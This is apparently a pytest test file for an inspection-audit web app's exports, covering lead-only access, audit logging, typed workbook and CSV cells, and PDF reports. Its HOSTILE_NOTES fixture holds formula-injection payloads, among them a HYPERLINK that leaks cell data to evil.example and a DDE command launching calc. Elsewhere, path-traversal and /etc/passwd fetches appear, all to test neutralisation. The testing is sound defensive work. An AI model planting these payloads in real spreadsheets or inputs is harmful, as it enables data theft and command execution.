"""Exports: the workbook, CSVs and report carry the findings' figures, safely, to leads only."""

from __future__ import annotations

import csv
import html
import io
import os
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import insert, select

from auditapp.extensions import db
from auditapp.models import (
    Answer,
    AuditEvent,
    Case,
    CaseStatus,
    Inspection,
    InspectionKind,
    Question,
    QuestionOutcomeRow,
    Recommendation,
    RecommendationJudgement,
    User,
)
from auditapp.services import exports as export_service
from auditapp.services import findings, moderation
from tests import factories

YES = {f"DA{n:02d}": "yes" for n in range(1, 18)} | {"DA03": "attended", "DA11": "high"}
HOSTILE_NOTES = {
    "DA01": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "DA02": "+cmd|' /C calc'!A0",
    "DA04": "-2+3",
    "DA05": "@SUM(A1:A9)",
    "DA06": "\t=1+1",
    "DA08": "\r=1+1",
}
HOSTILE_REFERENCE = "=HYPERLINK(1)"


def _set_notes(case: Case, notes: dict[str, str]) -> None:
    for answer in db.session.scalars(select(Answer).where(Answer.case_id == case.id)):
        if answer.question_code in notes:
            answer.note = notes[answer.question_code]
    db.session.commit()


@pytest.fixture
def audited(inspection: Inspection, lead: User, auditor: User) -> dict[str, Any]:
    """A review of a baseline with two recommendations, four sampled cases and a moderation."""
    baseline = factories.make_inspection("Inspection 2021", kind=InspectionKind.FULL)
    db.session.add_all(
        [
            Recommendation(
                inspection_id=baseline.id,
                code="R1",
                position=1,
                chapter="Initial contact",
                timescale="within six months",
                text="Children's views are obtained and recorded.",
            ),
            Recommendation(
                inspection_id=baseline.id,
                code="R5",
                position=2,
                chapter="Assessment and help",
                timescale="within six months",
                text="Every child is seen and spoken with.",
            ),
        ]
    )
    inspection.baseline_id = baseline.id
    db.session.commit()

    good = factories.make_case(
        inspection, "DA-001", auditor=auditor, answers=YES, status=CaseStatus.SUBMITTED
    )
    poor = factories.make_case(
        inspection,
        "DA-002",
        auditor=auditor,
        answers=YES | {"DA05": "no", "DA06": "no", "DA09": "partly"},
        status=CaseStatus.SUBMITTED,
        is_case_study=True,
        case_study_narrative="Officers did not speak to the two children in the house.",
    )
    hostile = factories.make_case(
        inspection,
        HOSTILE_REFERENCE,
        auditor=auditor,
        answers=YES | {"DA10": "partly"},
        status=CaseStatus.SUBMITTED,
    )
    factories.make_case(inspection, "DA-004", auditor=auditor, answers={"DA01": "yes"})
    _set_notes(hostile, HOSTILE_NOTES)
    moderation.agree_grade(good, lead)
    r1 = db.session.scalar(select(Recommendation).where(Recommendation.code == "R1"))
    db.session.add(
        RecommendationJudgement(
            inspection_id=inspection.id,
            recommendation_id=r1.id,
            judgement="reasonable_progress",
            narrative="The constabulary now records children's views in most cases.",
            baseline_rate=0.2,
            baseline_cases=15,
            baseline_source="2021 inspection report",
        )
    )
    db.session.commit()
    return {"baseline": baseline, "good": good, "poor": poor, "hostile": hostile}


def _workbook(response: Any) -> Any:
    return load_workbook(io.BytesIO(response.data))


def _sheet_rows(sheet: Any, header_row: int = 1) -> list[dict[str, Any]]:
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[header_row - 1]
    return [dict(zip(header, row, strict=True)) for row in rows[header_row:]]


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV starts with a UTF-8 byte-order mark for Excel"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


# --- the exports page and access ----------------------------------------------------------------


def test_lead_sees_links_to_the_workbook_each_csv_and_the_report(
    login_as: Callable, lead: User, inspection: Inspection
) -> None:
    response = login_as(lead).get(f"/exports/{inspection.id}")

    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Workbook (XLSX)" in page
    assert "Report (PDF)" in page
    for name in export_service.TABLES:
        assert f"/exports/{inspection.id}/csv/{name}.csv" in page
    assert f"/exports/{inspection.id}/csv.zip" in page


EXPORT_PATHS = [
    "",
    "/workbook.xlsx",
    "/csv/cases.csv",
    "/csv.zip",
    "/report",
    "/report.pdf",
    "/report.docx",
]


@pytest.mark.parametrize("path", EXPORT_PATHS)
@pytest.mark.parametrize("who", ["auditor", "observer"])
def test_auditors_and_observers_may_not_export(
    login_as: Callable, request: pytest.FixtureRequest, inspection: Inspection, who: str, path: str
) -> None:
    user = request.getfixturevalue(who)

    response = login_as(user).get(f"/exports/{inspection.id}{path}")

    assert response.status_code == 403


@pytest.mark.parametrize("path", EXPORT_PATHS)
def test_non_members_get_not_found(
    login_as: Callable, outsider: User, inspection: Inspection, path: str
) -> None:
    response = login_as(outsider).get(f"/exports/{inspection.id}{path}")

    assert response.status_code == 404


def test_anonymous_visitors_are_sent_to_sign_in(client: Any, inspection: Inspection) -> None:
    response = client.get(f"/exports/{inspection.id}/workbook.xlsx")

    assert response.status_code == 302
    assert "/auth/login" in response.headers["Location"]


def test_a_global_admin_who_is_not_a_member_may_export(
    login_as: Callable, admin: User, inspection: Inspection
) -> None:
    response = login_as(admin).get(f"/exports/{inspection.id}/csv/summary.csv")

    assert response.status_code == 200


def test_an_unknown_table_is_not_found(
    login_as: Callable, lead: User, inspection: Inspection
) -> None:
    response = login_as(lead).get(f"/exports/{inspection.id}/csv/users.csv")

    assert response.status_code == 404


# --- the audit log ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "export_format", "what"),
    [
        ("/workbook.xlsx", "xlsx", "all"),
        ("/csv/answers.csv", "csv", "answers"),
        ("/csv.zip", "csv", "all"),
        ("/report", "html", "report"),
    ],
)
def test_every_export_is_in_the_audit_log_with_who_when_and_what(
    login_as: Callable,
    lead: User,
    inspection: Inspection,
    path: str,
    export_format: str,
    what: str,
) -> None:
    response = login_as(lead).get(f"/exports/{inspection.id}{path}")

    assert response.status_code == 200
    events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).all()
    assert len(events) == 1
    event = events[0]
    assert event.user_id == lead.id
    assert event.inspection_id == inspection.id
    assert event.field == export_format
    assert event.new_value == what
    assert event.occurred_at is not None


def test_a_refused_export_is_not_logged_as_an_export(
    login_as: Callable, auditor: User, inspection: Inspection
) -> None:
    login_as(auditor).get(f"/exports/{inspection.id}/workbook.xlsx")

    assert db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).all() == []


# --- the workbook -------------------------------------------------------------------------------


def test_workbook_has_a_sheet_per_table_with_frozen_headers_and_filters(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    response = login_as(lead).get(f"/exports/{inspection.id}/workbook.xlsx")

    assert response.status_code == 200
    assert response.mimetype == export_service.XLSX_MIMETYPE
    assert "attachment" in response.headers["Content-Disposition"]
    workbook = _workbook(response)
    assert workbook.sheetnames == [
        "Summary",
        "Cases",
        "Answers",
        "Findings",
        "Recommendations",
        "Moderation",
        "Agreement",
        "Strata",
        "Evidence",
        "Action plan",
    ]
    cases = workbook["Cases"]
    assert cases.freeze_panes == "A2"
    assert cases.auto_filter.ref.startswith("A1:")
    assert cases["A1"].value == "Reference"
    assert cases["A1"].font.bold
    assert round(cases.column_dimensions["B"].width) in (30, 31)  # Excel adds cell padding
    summary = workbook["Summary"]
    assert summary.freeze_panes == "A5"  # title, headline, date, then the header row


def test_workbook_summary_equals_the_dashboard(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    board = findings.dashboard(inspection.id)

    workbook = _workbook(login_as(lead).get(f"/exports/{inspection.id}/workbook.xlsx"))

    summary = workbook["Summary"]
    assert summary["A2"].value.startswith(board.headline)
    assert board.headline.startswith("3 cases audited")
    rows = _sheet_rows(summary, header_row=4)
    overall = rows[0]
    assert overall["Group"] == board.overall.label
    assert overall["Cases"] == board.overall.cases == 3
    for count in board.overall.grades:
        label = count.label
        assert overall[label] == count.share.count
        assert overall[f"{label} (%)"] == count.share.percent
    assert isinstance(overall["Cases"], int)
    by_type = [row for row in rows if row["Grouping"] == "Case type"]
    assert [(row["Group"], row["Cases"]) for row in by_type] == [
        (b.label, b.cases) for b in board.by_case_type
    ]


def test_workbook_cases_list_every_sampled_case_with_its_grades(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    workbook = _workbook(login_as(lead).get(f"/exports/{inspection.id}/workbook.xlsx"))

    rows = {row["Reference"].lstrip("'"): row for row in _sheet_rows(workbook["Cases"])}
    assert set(rows) == {"DA-001", "DA-002", HOSTILE_REFERENCE, "DA-004"}
    good = rows["DA-001"]
    assert good["Status"] == "Moderated"
    assert good["Final grade"] == good["Computed grade"] == good["Grade used in figures"]
    assert good["Counted in figures"] == "Yes"
    assert rows["DA-004"]["Counted in figures"] == "No"
    assert rows["DA-002"]["Case study"] == "Yes"
    assert rows["DA-002"]["Case study narrative"].startswith("Officers did not speak")
    assert rows["DA-002"]["Grade used in figures"] == "Inadequate"


def test_workbook_answers_hold_one_row_per_case_and_question(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    questions = db.session.scalar(
        select(db.func.count(Question.id)).where(
            Question.question_set_id == audited["good"].question_set_id
        )
    )

    workbook = _workbook(login_as(lead).get(f"/exports/{inspection.id}/workbook.xlsx"))

    rows = _sheet_rows(workbook["Answers"])
    assert len(rows) == 4 * questions
    da05 = next(r for r in rows if r["Reference"] == "DA-002" and r["Question"] == "DA05")
    assert da05["Answer"] == "No"
    assert da05["Outcome"] == "Not met"


def test_workbook_answers_are_typed_numbers_dates_and_words(
    inspection: Inspection, auditor: User, tmp_path: Path
) -> None:
    factories.make_case(
        inspection,
        "MC-1",
        slug="missing-child",
        auditor=auditor,
        answers={"MC01": "2022-09-05T14:30", "MC02": "medium", "MC10": "yes", "MC11": "3"},
    )

    export_service.write_workbook(inspection, tmp_path / "typed.xlsx")

    rows = _sheet_rows(load_workbook(tmp_path / "typed.xlsx")["Answers"])
    answers = {row["Question"]: row["Answer"] for row in rows}
    assert answers["MC01"] == datetime(2022, 9, 5, 14, 30)
    assert answers["MC02"] == "Medium"
    assert answers["MC10"] == "Yes"
    assert answers["MC11"] == 3
    assert isinstance(answers["MC11"], int)


def test_workbook_findings_equal_the_findings_page(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    (found,) = findings.question_findings(inspection.id)

    workbook = _workbook(login_as(lead).get(f"/exports/{inspection.id}/workbook.xlsx"))

    rows = {row["Question"]: row for row in _sheet_rows(workbook["Findings"])}
    assert len(rows) == len(found.questions)
    for question in found.questions:
        row = rows[question.code]
        assert (row["Met"], row["Partly met"], row["Not met"], row["Applicable"]) == (
            question.met,
            question.partly_met,
            question.not_met,
            question.applicable,
        )
        # Only a graded question's fully-met share is a percentage with an interval.
        shown = question.share.percent if question.shows_outcomes else None
        assert row["Met (%)"] == shown
        assert row["Summary"] == question.summary
    assert rows["DA05"]["Met"] == 2
    assert rows["DA05"]["Not met"] == 1


def test_workbook_recommendations_equal_the_progress_page(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    progress = {row.code: row for row in findings.recommendation_progress(inspection).rows}

    workbook = _workbook(login_as(lead).get(f"/exports/{inspection.id}/workbook.xlsx"))

    rows = {row["Code"]: row for row in _sheet_rows(workbook["Recommendations"])}
    assert set(rows) == {"R1", "R5"}
    r1, shown = rows["R1"], progress["R1"].figures
    assert r1["Met rate (%)"] == float(shown.now_percent)
    assert r1["Baseline rate (%)"] == 20
    assert r1["Change (percentage points)"] == float(shown.change_points)
    assert f"{r1['Change (percentage points)']:g}" in shown.change_text
    assert (r1["Cases now"], r1["Cases at baseline"]) == (shown.now_cases, 15)
    assert r1["Why suggested"] == shown.suggestion.reason
    assert r1["Judgement"] == "Reasonable progress"
    assert r1["Narrative"].startswith("The constabulary now records")
    assert rows["R5"]["Cases now"] == progress["R5"].figures.now_cases
    assert rows["R5"]["Judgement"] == "Not yet assessed"


def test_workbook_moderation_and_agreement_list_the_decisions(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    figures = moderation.agreement_figures(inspection.id)

    workbook = _workbook(login_as(lead).get(f"/exports/{inspection.id}/workbook.xlsx"))

    decisions = _sheet_rows(workbook["Moderation"])
    assert [(d["Reference"], d["Decision"], d["Lead"]) for d in decisions] == [
        ("DA-001", "Agreed", lead.name)
    ]
    assert decisions[0]["Decided (UTC)"] is not None
    agreement = _sheet_rows(workbook["Agreement"])
    overall = next(
        r for r in agreement if r["Grouping"] == "All" and "moderated" in r["Comparison"]
    )
    assert overall["Cases compared"] == figures.moderation.overall.compared == 1
    assert overall["Agreement (%)"] == 100


# --- formula neutralisation ---------------------------------------------------------------------


def test_hostile_notes_and_references_are_neutralised_in_the_workbook(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    workbook = _workbook(login_as(lead).get(f"/exports/{inspection.id}/workbook.xlsx"))

    answers = _sheet_rows(workbook["Answers"])
    notes = {
        row["Question"]: row["Note"] for row in answers if row["Reference"] == "'=HYPERLINK(1)"
    }
    for code, hostile in HOSTILE_NOTES.items():
        # A carriage return is stored as the OOXML escape _x000D_, which spreadsheets read as one.
        assert notes[code] == "'" + hostile.replace("\r", "_x000D_")
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"


def test_hostile_notes_and_references_are_neutralised_in_the_csv(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    client = login_as(lead)

    answers = _csv_rows(client.get(f"/exports/{inspection.id}/csv/answers.csv").data)
    cases = _csv_rows(client.get(f"/exports/{inspection.id}/csv/cases.csv").data)

    notes = {r["Question"]: r["Note"] for r in answers if r["Reference"] == "'=HYPERLINK(1)"}
    for code, hostile in HOSTILE_NOTES.items():
        assert notes[code] == "'" + hostile
    assert "'" + HOSTILE_REFERENCE in [row["Reference"] for row in cases]
    for row in answers + cases:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


# --- CSV ----------------------------------------------------------------------------------------


def test_each_csv_has_a_header_row_and_the_findings_figures(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    client = login_as(lead)
    board = findings.dashboard(inspection.id)

    for name, spec in export_service.TABLES.items():
        response = client.get(f"/exports/{inspection.id}/csv/{name}.csv")
        assert response.status_code == 200
        assert response.mimetype == "text/csv"
        header = next(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
        assert header == [column.label for column in spec.columns]

    summary = _csv_rows(client.get(f"/exports/{inspection.id}/csv/summary.csv").data)
    assert summary[0]["Cases"] == str(board.overall.cases)
    assert summary[0]["Inadequate"] == str(int(board.overall.grades[2].share.count))


CELL_CASES = [
    # (kind, value, workbook cell, CSV text)
    ("text", None, None, ""),
    ("int", float("nan"), None, ""),
    ("int", 7.0, 7, 7),
    ("text", 3.0, 3.0, 3),
    ("decimal", 0.456, 0.456, "0.46"),
    ("bool", True, "Yes", "Yes"),
    ("bool", False, "No", "No"),
    ("text", "=1+1", "'=1+1", "'=1+1"),
    (
        "datetime",
        datetime(2024, 6, 1, 9, 30, tzinfo=UTC),
        datetime(2024, 6, 1, 9, 30),
        "2024-06-01 09:30",
    ),
    ("date", date(2024, 6, 1), date(2024, 6, 1), "2024-06-01"),
]


@pytest.mark.parametrize(("kind", "value", "in_workbook", "in_csv"), CELL_CASES)
def test_each_value_becomes_a_typed_safe_cell_in_the_workbook_and_the_csv(
    kind: str, value: Any, in_workbook: Any, in_csv: Any
) -> None:
    column = export_service.Column("key", "Heading", kind=kind)

    assert export_service.workbook_value(column, value) == in_workbook
    assert export_service.csv_value(column, value) == in_csv


def test_the_csv_zip_holds_one_file_per_table(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    response = login_as(lead).get(f"/exports/{inspection.id}/csv.zip")

    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert sorted(archive.namelist()) == sorted(f"{n}.csv" for n in export_service.TABLES)
    findings_rows = _csv_rows(archive.read("findings.csv"))
    assert {row["Question"] for row in findings_rows} >= {"DA01", "DA05"}


# --- the report ---------------------------------------------------------------------------------


def test_report_page_shows_headline_chapters_judgements_and_case_studies(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    board = findings.dashboard(inspection.id)
    r1 = next(r for r in findings.recommendation_progress(inspection).rows if r.code == "R1")

    response = login_as(lead).get(f"/exports/{inspection.id}/report")

    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert board.headline in page
    assert "Initial contact" in page
    assert "Assessment and help" in page
    assert f"Met rate now: {r1.figures.now_text}" in page
    assert f"Change: {r1.figures.change_text}." in page
    assert "Reasonable progress" in page
    assert "Officers did not speak to the two children in the house." in page
    assert "<svg" in page
    assert "<script>" not in page
    assert 'style="' not in page


def test_report_chapter_judgements_are_the_pages_with_not_enough_evidence_said(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    # Three submitted cases: every key question is below the minimum of 5.
    chapters = {c.chapter: c for c in findings.chapter_findings(inspection).chapters}
    initial = chapters["Initial contact"]
    assert initial.judgement_label == "Not enough evidence"

    page = login_as(lead).get(f"/exports/{inspection.id}/report").get_data(as_text=True)
    text = " ".join(html.unescape(re.sub(r"<[^>]+>", " ", page)).split())

    for chapter in chapters.values():
        said = f"Chapter judgement: {chapter.judgement_label}. {chapter.suggestion.reason}"
        assert said in text, chapter.chapter
    assert "has at least 5 applicable cases (the most is 3)" in initial.suggestion.reason


def test_report_pdf_carries_the_same_figures(
    login_as: Callable, lead: User, inspection: Inspection, audited: dict[str, Any]
) -> None:
    board = findings.dashboard(inspection.id)
    r1 = next(r for r in findings.recommendation_progress(inspection).rows if r.code == "R1")

    response = login_as(lead).get(f"/exports/{inspection.id}/report.pdf")

    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    text = " ".join(
        page.extract_text() for page in PdfReader(io.BytesIO(response.data)).pages
    ).replace("\n", " ")
    assert " ".join(board.headline.split()) in " ".join(text.split())
    assert "Initial contact" in text
    assert f"Met rate now: {r1.figures.now_text}" in text
    assert f"Change: {r1.figures.change_text}." in text
    assert "Reasonable progress" in text
    assert "Officers did not speak" in text
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "export"))
    assert (event.field, event.new_value) == ("pdf", "report")


def test_pdf_rendering_never_fetches_anything_but_static_files(app: Any) -> None:
    from auditapp.exports.report import PDF_BASE_URL, StaticFilesOnly

    fetcher = StaticFilesOnly(app.static_folder, "/static")

    with pytest.raises(ValueError, match="static files"):
        fetcher.fetch("http://evil.example/static/x.css")
    with pytest.raises(ValueError, match="static files"):
        fetcher.fetch(PDF_BASE_URL + "etc/passwd")
    with pytest.raises(ValueError, match="no static file"):
        fetcher.fetch(PDF_BASE_URL + "static/../../config.py")


# --- scale --------------------------------------------------------------------------------------


def _bulk_inspection(inspection: Inspection, auditor: User, cases: int) -> int:
    """Insert many submitted cases with every answer and outcome, fast (bulk inserts)."""
    seed = factories.make_case(inspection, "BULK-0000", auditor=auditor, answers=YES)
    codes = list(
        db.session.scalars(
            select(Question.code).where(Question.question_set_id == seed.question_set_id)
        )
    )
    db.session.execute(
        insert(Case),
        [
            {
                "inspection_id": inspection.id,
                "case_type_id": seed.case_type_id,
                "question_set_id": seed.question_set_id,
                "reference": f"BULK-{n:04d}",
                "in_sample": True,
                "auditor_id": auditor.id,
                "status": CaseStatus.SUBMITTED,
                "computed_grade": "good",
                "attributes": {},
            }
            for n in range(1, cases)
        ],
    )
    ids = list(
        db.session.scalars(
            select(Case.id).where(Case.inspection_id == inspection.id, Case.id != seed.id)
        )
    )
    db.session.execute(
        insert(Answer),
        [
            {"case_id": i, "question_code": code, "value": "yes", "note": f"=note {i}"}
            for i in ids
            for code in codes
        ],
    )
    db.session.execute(
        insert(QuestionOutcomeRow),
        [{"case_id": i, "question_code": code, "outcome": "met"} for i in ids for code in codes],
    )
    db.session.commit()
    return cases * len(codes)


def test_a_large_inspection_is_read_in_chunks_and_exports_every_answer(
    inspection: Inspection, auditor: User, tmp_path: Path
) -> None:
    expected = _bulk_inspection(inspection, auditor, cases=200)
    assert expected > 3000

    chunks = [len(chunk) for chunk in export_service.answer_chunks(inspection, chunk_rows=500)]
    written = export_service.write_workbook(inspection, tmp_path / "big.xlsx")

    assert sum(chunks) == expected
    assert len(chunks) >= expected // 500
    assert max(chunks) <= 500
    assert written["answers"] == expected
    sheet = load_workbook(tmp_path / "big.xlsx", read_only=True)["Answers"]
    assert sum(1 for _ in sheet.iter_rows(values_only=True)) == expected + 1
    with (tmp_path / "answers.csv").open("wb") as handle:
        assert export_service.write_csv(inspection, "answers", handle) == expected


def test_exports_read_answers_through_the_chunked_reader(
    inspection: Inspection, auditor: User, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _bulk_inspection(inspection, auditor, cases=30)
    sizes: list[int] = []
    original = export_service.answer_chunks

    def spy(inspection: Inspection, chunk_rows: int = 100) -> Any:
        for chunk in original(inspection, chunk_rows=100):
            sizes.append(len(chunk))
            yield chunk

    spec = export_service.TABLES["answers"]
    monkeypatch.setitem(
        export_service.TABLES, "answers", export_service.Table(**{**spec.__dict__, "read": spy})
    )

    export_service.write_workbook(inspection, tmp_path / "book.xlsx")

    assert len(sizes) > 1
    assert max(sizes) <= 100


# --- a real spreadsheet program -----------------------------------------------------------------


@pytest.mark.slow
def test_libreoffice_opens_the_workbook(
    inspection: Inspection, audited: dict[str, Any], tmp_path: Path
) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice is not installed: .ci/run installs libreoffice-calc-nogui")
        pytest.skip("LibreOffice is not installed")
    book = tmp_path / "audit.xlsx"
    export_service.write_workbook(inspection, book)

    subprocess.run(  # noqa: S603 - fixed arguments, our own temporary file
        [
            soffice,
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(tmp_path / "out"),
            str(book),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )

    outputs = {p.name: p.read_text(encoding="utf-8") for p in (tmp_path / "out").iterdir()}
    summary = next(text for name, text in outputs.items() if "Summary" in name)
    answers = next(text for name, text in outputs.items() if "Answers" in name)
    assert findings.dashboard(inspection.id).headline in summary
    assert HOSTILE_NOTES["DA04"] in answers  # shown as typed, not evaluated to 1


def test_the_inspection_overview_links_leads_to_the_exports(
    login_as: Callable, lead: User, observer: User, inspection: Inspection
) -> None:
    link = f'href="/exports/{inspection.id}"'

    assert link in login_as(lead).get(f"/inspections/{inspection.id}").get_data(as_text=True)
    assert link not in login_as(observer).get(f"/inspections/{inspection.id}").get_data(
        as_text=True
    )


def test_control_characters_in_a_note_do_not_break_the_workbook(
    inspection: Inspection, auditor: User, tmp_path: Path
) -> None:
    case = factories.make_case(inspection, "DA-9", auditor=auditor, answers={"DA01": "yes"})
    _set_notes(case, {"DA01": "pasted\x07 from\x0b a form"})

    export_service.write_workbook(inspection, tmp_path / "control.xlsx")

    rows = _sheet_rows(load_workbook(tmp_path / "control.xlsx")["Answers"])
    assert next(r["Note"] for r in rows if r["Question"] == "DA01") == "pasted from a form"


def test_demo_lead_downloads_every_export_of_the_demo_review_with_the_pages_figures(
    login_as: Callable,
) -> None:
    from auditapp.services.demo import DEMO_PASSWORD, REVIEW_TITLE, load_demo

    load_demo()
    db.session.commit()
    review = db.session.scalar(select(Inspection).where(Inspection.title == REVIEW_TITLE))
    demo_lead = db.session.scalar(select(User).where(User.email == "lead@demo.test"))
    client = login_as(demo_lead, DEMO_PASSWORD)
    board = findings.dashboard(review.id)
    progress = {r.code: r for r in findings.recommendation_progress(review).rows}

    workbook = _workbook(client.get(f"/exports/{review.id}/workbook.xlsx"))
    summary_csv = _csv_rows(client.get(f"/exports/{review.id}/csv/summary.csv").data)
    recs_csv = _csv_rows(client.get(f"/exports/{review.id}/csv/recommendations.csv").data)
    pdf = PdfReader(io.BytesIO(client.get(f"/exports/{review.id}/report.pdf").data))

    assert board.headline == (
        "24 cases audited: 6 good (25%), 5 requires improvement (21%), 13 inadequate (54%)"
    )
    assert workbook["Summary"]["A2"].value == board.headline
    assert summary_csv[0]["Cases"] == "24"
    assert (summary_csv[0]["Good"], summary_csv[0]["Inadequate"]) == ("6", "13")
    sheet_recs = {row["Code"]: row for row in _sheet_rows(workbook["Recommendations"])}
    for row in recs_csv:
        shown = progress[row["Code"]].figures
        # The CSV's text is the page's number: "27.5" for +27.5 points, "40" for +40 points.
        assert row["Met rate (%)"] == shown.now_text.rstrip("%")
        assert row["Change (percentage points)"] == (
            shown.change_text.split()[0].lstrip("+").replace("\u2212", "-")
        )
        sheet = sheet_recs[row["Code"]]
        assert sheet["Met rate (%)"] == float(shown.now_percent)
        assert sheet["Change (percentage points)"] == float(shown.change_points)
        assert sheet["Suggested judgement"] == row["Suggested judgement"]
        assert row["Suggested judgement"] == shown.suggestion.judgement.label
        assert row["Judgement"] == progress[row["Code"]].judgement_label
    text = " ".join(" ".join(page.extract_text() for page in pdf.pages).split())
    assert board.headline in text
    # Chapter judgements: the page's words and figures, "Not enough evidence" included.
    for chapter in findings.chapter_findings(review).chapters:
        said = f"Chapter judgement: {chapter.judgement_label}. {chapter.suggestion.reason}"
        assert " ".join(said.split()) in text, chapter.chapter
    for code, row in progress.items():
        shown = row.figures
        assert f"Met rate now: {shown.now_text}" in text, code
        assert f"Change: {shown.change_text}." in text, code
